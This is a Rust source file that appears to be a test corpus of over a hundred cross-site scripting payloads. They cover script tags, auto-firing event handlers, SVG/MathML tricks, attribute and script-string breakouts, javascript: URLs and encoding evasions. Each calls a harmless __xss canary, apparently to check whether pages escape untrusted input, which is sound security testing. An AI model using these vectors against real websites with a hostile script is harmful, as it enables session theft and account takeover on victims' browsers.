//! A hundred texts that would run as scripts where a page forgets to escape them.

/// Each calls `__xss` where it runs. `N` stands for its number.
pub const PAYLOADS: &[&str] = &[
    // Plain elements.
    "<script>__xss('N')</script>",
    "<SCRIPT>__xss('N')</SCRIPT>",
    "<script >__xss('N')</script >",
    "<script\n>__xss('N')</script\n>",
    "<script/x>__xss('N')</script>",
    "<scr<script>ipt>__xss('N')</scr</script>ipt>",
    "<script>__xss('N')//",
    "<<script>__xss('N');//<</script>",
    "<script type=module>__xss('N')</script>",
    "<script src=data:text/javascript,__xss('N')></script>",
    "<script src=//127.0.0.1:1/x.js onerror=__xss('N')></script>",
    "</script><script>__xss('N')</script>",
    "</title><script>__xss('N')</script>",
    "</textarea><script>__xss('N')</script>",
    "</style><script>__xss('N')</script>",
    "</noscript><script>__xss('N')</script>",
    "</template><script>__xss('N')</script>",
    "</select><script>__xss('N')</script>",
    "</option></select><img src=x onerror=__xss('N')>",
    "</pre><img src=x onerror=__xss('N')>",
    "</a><img src=x onerror=__xss('N')>",
    "</td></tr></table><img src=x onerror=__xss('N')>",
    "</form><form><button autofocus onfocus=__xss('N')>x</button></form>",
    // Handlers that need no hand.
    "<img src=x onerror=__xss('N')>",
    "<img src=x onerror=\"__xss('N')\">",
    "<IMG SRC=x OnErRoR=__xss('N')>",
    "<img/src=x/onerror=__xss('N')>",
    "<img src=x onerror=__xss('N')//",
    "<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\" onload=__xss('N')>",
    "<img srcset=x onerror=__xss('N')>",
    "<image src=x onerror=__xss('N')>",
    "<picture><source srcset=x><img onerror=__xss('N') src=x></picture>",
    "<svg onload=__xss('N')>",
    "<svg/onload=__xss('N')>",
    "<svg><script>__xss('N')</script></svg>",
    "<svg><script href=data:text/javascript,__xss('N') /></svg>",
    "<svg><animate onbegin=__xss('N') attributeName=x dur=1s></svg>",
    "<svg><set onbegin=__xss('N') attributeName=x></svg>",
    "<svg><image href=x onerror=__xss('N')></svg>",
    "<svg><foreignObject><img src=x onerror=__xss('N')></foreignObject></svg>",
    "<svg><a xlink:href=\"javascript:__xss('N')\"><text x=20 y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=__xss('N')></style></svg>",
    "</text></svg><img src=x onerror=__xss('N')>",
    "</tspan></text><script>__xss('N')</script>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=__xss('N')>",
    "<body onload=__xss('N')>",
    "<body onpageshow=__xss('N')>",
    "<input autofocus onfocus=__xss('N')>",
    "<select autofocus onfocus=__xss('N')></select>",
    "<textarea autofocus onfocus=__xss('N')></textarea>",
    "<details open ontoggle=__xss('N')>x</details>",
    "<video><source onerror=__xss('N') src=x></video>",
    "<video src=x onerror=__xss('N')></video>",
    "<audio src=x onerror=__xss('N')></audio>",
    "<object data=javascript:__xss('N')></object>",
    "<object data=\"data:text/html,<script>parent.__xss('N')</script>\"></object>",
    "<embed src=javascript:__xss('N')>",
    "<iframe src=javascript:parent.__xss('N')></iframe>",
    "<iframe srcdoc=\"<script>parent.__xss('N')</script>\"></iframe>",
    "<iframe onload=__xss('N')></iframe>",
    "<marquee onstart=__xss('N')>x</marquee>",
    "<xss style=animation-name:x onanimationstart=__xss('N')></xss>",
    "<x tabindex=0 id=x autofocus onfocus=__xss('N')></x>",
    "<meta http-equiv=refresh content=\"0;url=javascript:__xss('N')\">",
    "<base href=\"javascript:__xss('N')//\">",
    "<link rel=stylesheet href=x onerror=__xss('N')>",
    "<form action=javascript:__xss('N')><input type=submit autofocus></form>",
    "<dialog open onfocusin=__xss('N')><input autofocus></dialog>",
    // Out of an attribute.
    "\" autofocus onfocus=__xss('N') x=\"",
    "' autofocus onfocus=__xss('N') x='",
    "\" onload=__xss('N') \"",
    "\"><script>__xss('N')</script>",
    "'><script>__xss('N')</script>",
    "\"><img src=x onerror=__xss('N')>",
    "'/><svg onload=__xss('N')>",
    "x onerror=__xss('N')",
    "` onerror=__xss('N') `",
    "--><script>__xss('N')</script>",
    "--!><img src=x onerror=__xss('N')>",
    "]]><script>__xss('N')</script>",
    "<![CDATA[<script>__xss('N')</script>]]>",
    "<?xml version=\"1.0\"?><script>__xss('N')</script>",
    // Out of a script, out of JSON, into an expression.
    "';__xss('N');//",
    "\";__xss('N');//",
    "\\\";__xss('N');//",
    "\\u0022;__xss('N');//",
    "${__xss('N')}",
    "`;__xss('N');`",
    "{{constructor.constructor(\"__xss('N')\")()}}",
    "{% raw %}<script>__xss('N')</script>{% endraw %}",
    "<%= __xss('N') %>",
    "#{__xss('N')}",
    "\u{2028}__xss('N')\u{2029}",
    // Addresses.
    "javascript:__xss('N')",
    "JaVaScRiPt:__xss('N')",
    " javascript:__xss('N')",
    "java\tscript:__xss('N')",
    "javascript://%0a__xss('N')",
    "data:text/html,<script>opener.__xss('N')</script>",
    // Encoded, styled, or of odd characters.
    "&lt;script&gt;__xss('N')&lt;/script&gt;",
    "&#60;img src=x onerror=__xss('N')&#62;",
    "%3Cscript%3E__xss('N')%3C/script%3E",
    "\u{FF1C}script\u{FF1E}__xss('N')\u{FF1C}/script\u{FF1E}",
    "<scri\u{200B}pt>__xss('N')</script>",
    "\u{202E}<img src=x onerror=__xss('N')>",
    "+ADw-script+AD4-__xss('N')+ADw-/script+AD4-",
    "<style>@import 'javascript:__xss(\"N\")';</style>",
    "<div style=\"background:url(javascript:__xss('N'))\">",
    "<style>*{background:url(\"//127.0.0.1:1/N\")}</style>",
];

/// The payload of this number, from 0; they begin again after the last.
#[must_use]
pub fn payload(number: usize) -> String {
    PAYLOADS.get(number % PAYLOADS.len()).copied().unwrap_or_default().replace('N', &number.to_string())
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn there_are_a_hundred_and_no_two_are_the_same() {
        assert!(PAYLOADS.len() >= 100, "{}", PAYLOADS.len());
        assert_eq!(PAYLOADS.iter().collect::<BTreeSet<_>>().len(), PAYLOADS.len());
        assert!(payload(3).contains("__xss('3')"));
    }
}
